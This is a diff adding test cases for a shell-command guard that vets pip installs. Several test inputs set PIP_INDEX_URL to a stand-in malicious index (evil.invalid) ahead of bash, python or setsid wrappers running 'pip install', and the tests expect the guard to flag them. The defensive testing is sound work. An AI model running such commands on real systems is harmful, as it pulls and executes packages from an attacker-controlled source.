@@ -98,6 +98,23 @@ describe('the environment the command runs with (wrapper, shims)', () => {
   });
 });
 
+describe('variables set as a prefix of a program that runs the install in turn', () => {
+  it.each([
+    `PIP_INDEX_URL=https://evil.invalid/simple bash -c 'pip install requests'`,
+    `PIP_INDEX_URL=https://evil.invalid/simple python3 -c 'import os; os.system("pip install requests")'`,
+    `env PIP_INDEX_URL=https://evil.invalid/simple setsid sh -c 'pip install requests'`,
+  ])('%s is judged with the index the install inherits', async (command) => {
+    const verdict = await guardShellCommand(command, { cwd, env: home.env });
+    expect(verdict.verdict).not.toBe('allow');
+    expect(verdict.reasons.join('\n')).toContain('evil.invalid');
+  });
+
+  it('does not carry a prefix past the program it was given to', async () => {
+    const verdict = await guardShellCommand(`PIP_INDEX_URL=https://evil.invalid/simple true; pip install requests`, { cwd, env: home.env });
+    expect(verdict.verdict).toBe('allow');
+  });
+});
+
 describe('a project named by a directory option', () => {
   it.each(['poetry --directory sub install', 'poetry -C sub install', 'uv sync --directory sub', 'uv --directory=sub sync'])(
     '%s reads sub/pyproject.toml',
